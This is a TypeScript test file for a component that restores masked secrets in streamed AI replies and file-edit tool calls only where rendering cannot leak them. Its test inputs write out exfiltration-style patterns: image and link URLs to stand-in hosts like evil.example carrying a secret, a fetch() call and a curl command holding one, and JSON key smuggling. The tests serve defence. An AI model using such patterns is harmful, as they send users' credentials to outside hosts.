/** Values come back only where they may stand, and the same under every cut. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { FileEdit } from './file-edit.ts'
import { Code, type Ground, NOWHERE } from './ground.ts'
import { Markdown } from './markdown.ts'
import { Passage, type Tally } from './passage.ts'
import { Patch } from './patch.ts'
import { fileTool } from './tools.ts'

const NUMBER = '0123456789abcdef'
const MARK = `[masked:github-pat#${NUMBER}]`
const VALUE = 'va"lue\t1'
const taken = new Map([[MARK, VALUE]])

type Covers = (before: string, value: string, after: string) => boolean

function carried(parts: readonly string[], ground: Ground, covers: Covers = () => true) {
  const tally: Tally = { restored: new Map(), refused: new Set(), looks: 0 }
  const passage = new Passage({ taken, ground, tally, lane: 'text', covers, gives: () => undefined })
  let [text, sent, from] = ['', 0, 0]
  const release = () => {
    for (; sent < parts.length && from + parts[sent]!.length <= passage.settled; sent++) {
      text += passage.render(from, parts[sent]!)
      from += parts[sent]!.length
    }
  }
  for (const part of parts) {
    passage.push(part)
    release()
  }
  passage.end()
  release()
  return { text, restored: tally.restored.size, refused: tally.refused.size, broken: passage.broken }
}

const edit = (tool = 'Edit') => new FileEdit(fileTool(tool) as NonNullable<ReturnType<typeof fileTool>>)
const back = (text: string, shown = text.replace(MARK, VALUE)) => ({
  text: shown,
  restored: 1,
  refused: 0,
  broken: false,
})
const kept = (text: string) => ({ text, restored: 0, refused: 1, broken: false })

test('a value comes back in plain words and in plain fences', () => {
  for (const [before, after] of [
    ['', ''],
    ['token = "', '"\n'],
    ['Use ', '.'],
    ['Use ', '. Then'],
    ['It is `', '`, I think'],
    ['```\nkeys = [', ']\n```'],
    ['Here:\r\n\r\n```ts\r\nif (a < b) f<T>(`', '`)\r\n```'],
    ['~~~~python\n# [x]\nK = "', '"\n~~~~'],
    ['see [x](y)\n\nThen ', ' it is'],
    ['if (a < b) x = ', ' // y'],
    ['https://a.example is where ', ' goes'],
  ] as const) {
    const text = before + MARK + after
    assert.deepEqual(carried([text], new Markdown()), back(text), text)
  }
})

test('a value that the rules would not find again stays where it is', () => {
  const asked: string[][] = []
  const covers: Covers = (...all) => asked.push(all) > 1
  const text = `x ${MARK}\n\nand "${MARK}".`
  assert.equal(carried([text], new Markdown(), covers).text, `x ${MARK}\n\nand "${VALUE}".`)
  assert.deepEqual(asked, [
    ['x ', VALUE, '\n'],
    [`x ${MARK}\n\nand "`, VALUE, '"'],
  ])
  const json = JSON.stringify({ file_path: 'a.c', new_string: `"${MARK}"` })
  carried([json], edit(), (...all) => asked.push(all) > 0)
  assert.deepEqual(asked.at(-1), ['"', VALUE, '"'])
})

test('a value of several lines stays where it is', () => {
  const lines = new Map([[MARK, 'one\ntwo']])
  const tally: Tally = { restored: new Map(), refused: new Set(), looks: 0 }
  const options = { tally, lane: 'text', covers: () => true, gives: () => undefined }
  const passage = new Passage({ ...options, taken: lines, ground: new Markdown() })
  passage.push(MARK)
  passage.end()
  assert.deepEqual([passage.render(0, MARK), tally.refused.size], [MARK, 1])
})

test('a reply that repeats a value without end gets it back so often and no more', () => {
  const { text } = carried([`${MARK} `.repeat(1000)], new Code())
  assert.equal(text.split(VALUE).length - 1, 256)
})

test('values side by side all come back', () => {
  const text = `${MARK} and ${MARK} [ ${MARK}`
  assert.deepEqual(carried([text], new Markdown()).text, `${VALUE} and ${VALUE} [ ${MARK}`)
})

test('no value comes back where a window might fetch or link it', () => {
  for (const [before, after] of [
    ['https://evil.example/?q=', ' '],
    ['![](https://evil.example/', ')'],
    ['![x](<a b ', '>)'],
    ['[x](/relative?', ')'],
    ['[a ', '](https://evil.example)'],
    ['![a\n', ' b](https://evil.example/x.png)'],
    ['<img src="https://evil.example/? ', '">'],
    ['<img\nsrc="x ', '">'],
    ['<img alt=">" src="//evil.example/? ', '">'],
    ['<img alt="\n\n', '">'],
    ['- <div\n\n```\n', '\n```'],
    ['[id]: //evil.example/', '\n'],
    ['[id]:\n', '\n\n![id]'],
    ['[id]: <evil ', '>'],
    ['> [id]: <&sol;&sol;evil.example&sol; ', '>\n\n![x][id]'],
    ['![x](https:&sol;&sol;evil.example&sol;\\)', ')'],
    ['![x](<\\//evil.example/) ', '>)'],
    ['[masked:a]: <&sol;&sol;evil.example ', '>\n\n![masked:a]'],
    ['1. x\n   ```\n   ```\n![x](//evil.example/ ', ')'],
    ['- ```\n```\n', ''],
    ['```\n  ```\n```\n', ''],
    ['```a`b\n![](//e.example/', ')\n```'],
    ['```mermaid\nclick A href ', ''],
    ['```html\n<img src="//e.example/? ', '">'],
    ['```js\nfetch("https://evil.example/?', '")\n```'],
    ['www.evil.example/', ''],
    ['evil.example/', ''],
    ['mail a@b?', ''],
    ['evil.com#', ''],
    ['tel:', ''],
    ['', '.evil.example'],
    ['', '@evil.example'],
    ['', '/x'],
  ] as const) {
    const text = before + MARK + after
    assert.deepEqual(carried([text], new Markdown()), kept(text), text)
  }
})

test('a number that is not of this chain stays, and is told', () => {
  const other = MARK.replace('0123', '9999')
  assert.deepEqual(carried([other], new Markdown()), kept(other))
  for (const text of ['[masked:github-pat]', '[masked:github-pat#k7f2]', '[masked:', '[[[', '[masked:a#b'])
    assert.deepEqual(carried([text], new Markdown()), { ...kept(text), refused: 0 })
  assert.equal(carried([`[masked:x${MARK}`], new Markdown()).text.includes(NUMBER), true)
})

test('in the arguments of a tool only listed fields bear values, escaped as JSON', () => {
  const args = { file_path: '/src/a.env', new_string: `K=${MARK}\n` }
  const { text } = carried([JSON.stringify(args)], edit())
  assert.deepEqual(JSON.parse(text), { ...args, new_string: `K=${VALUE}\n` })
  const file_path = 'a.ts'
  for (const other of [
    { file_path: MARK },
    { file_path, command: `curl ${MARK}` },
    { file_path, new_string: { deep: MARK } },
    { file_path, new_string: `//evil.example/${MARK}` },
    [MARK],
    { new_string: MARK },
    { new_string: MARK, file_path },
    { x: { file_path }, new_string: MARK },
  ])
    assert.deepEqual(carried([JSON.stringify(other)], edit()), kept(JSON.stringify(other)))
  const many = { file_path, edits: [{ old_string: 'x', new_string: MARK }] }
  assert.equal(carried([JSON.stringify(many)], edit('MultiEdit')).restored, 1)
  assert.equal(carried([JSON.stringify({ file_path, new_string: MARK })], NOWHERE).refused, 1)
})

test('a file that a window shows as a page gets no value', () => {
  for (const file_path of [
    'README.md',
    'a.MD',
    'x.md.bak',
    'a/b.html',
    'c:\\d.svg',
    'n.ipynb',
    'a.md ',
    'a.md.',
    'a.md/.',
    '',
  ])
    assert.equal(carried([JSON.stringify({ file_path, new_string: MARK })], edit()).refused, 1, file_path)
  for (const file_path of ['.env', 'src/x.test.ts', 'C:\\app\\Dockerfile', '/etc/app.conf', 'a.md/x.py'])
    assert.equal(carried([JSON.stringify({ file_path, new_string: MARK })], edit()).restored, 1, file_path)
})

test('in a plain file a value stays out of addresses in any spelling, and of comments that are shown as pages', () => {
  for (const before of [
    '"url": "https:\\u002f\\u002fevil\\u002eexample\\u002f\\u003fa=',
    'url: "https://evil.example/\\\n  ',
    '# ![x](<https:&sol;&sol;evil&period;example&sol; ',
    '# [i]:\n# //evil ',
    '/** <img alt=">"\n * src="//e/? ',
    "x = '&sol;&sol;evil' + '",
  ])
    assert.equal(carried([before + MARK], new Code()).refused, 1, before)
  for (const before of [
    'if (a < b) Map<String> x = "',
    'p("\\n")\n\nk = "',
    '![x](y)\n\nk = "',
    `${'x[\n'.repeat(30_000)}k=`,
    'if (a && b) x = f(&y) && "',
    'List<String> a <b> "',
    '<img src=x>\n\nk = "',
  ])
    assert.equal(carried([before + MARK], new Code()).restored, 1, before.slice(0, 20))
})

test('a file that is named again after a value came back ends the reply', () => {
  const again = `{"file_path":"a.env","new_string":"${MARK}","file_path":"a.md"}`
  assert.equal(carried([again], edit()).broken, true)
  const twice = `{"file_path":"a.md","file_path":"a.env","new_string":"${MARK}"}`
  assert.deepEqual(carried([twice], edit()), kept(twice))
})

test('a patch bears values in the lines of plain files', () => {
  const patch = (line: string, more = '') =>
    `*** Begin Patch\n*** Update File: a.env\n${more}@@\n${line}\n*** End Patch`
  const good = patch(`+K=${MARK}`)
  assert.deepEqual(carried([good], new Patch()), back(good))
  for (const text of [
    patch(`+K=${MARK}`, '*** Move to: a.md\n'),
    patch(`+x\n*** Update File: b.html\n+${MARK}`),
    patch(`*** Update File: ${MARK}`),
    `+${MARK}`,
  ])
    assert.deepEqual(carried([text], new Patch()), kept(text), text)
  assert.equal(carried([patch(`+${MARK}\n*** Move to: a.md`)], new Patch()).broken, true)
  const wrapped = JSON.stringify({ input: good })
  assert.equal(carried([wrapped], edit('apply_patch')).restored, 1)
})

test('a key that looks like a value’s end gives no way in', () => {
  const text = `{"a":"x\\",\\"new_string\\":\\"${MARK}"}`
  assert.equal(carried([text], edit()).restored, 0)
})

test('every cut gives the same', () => {
  const piece = fc.constantFrom(
    MARK,
    '[',
    ']',
    '(',
    ')',
    '.',
    '/',
    ' ',
    '\n',
    '"',
    '\\',
    '<a',
    '>',
    'x',
    '[masked:',
    '```',
    ':',
    '{"file_path":"a.c","new_string":"',
    '\r',
    '*** Update File: a.c\n+',
    '😀',
  )
  const texts = fc.array(piece, { maxLength: 14 }).map((parts) => parts.join(''))
  fc.assert(
    fc.property(
      texts,
      fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
      fc.constantFrom(
        () => edit(),
        () => new Markdown(),
        () => new Patch(),
        () => new Code(),
      ),
      (text, sizes, ground) => {
        const parts: string[] = []
        for (let at = 0, i = 0; at < text.length; at += sizes[i++ % sizes.length]!)
          parts.push(text.slice(at, at + sizes[i % sizes.length]!))
        assert.deepEqual(carried(parts, ground()), carried([text], ground()))
      },
    ),
    { numRuns: 2000 },
  )
})
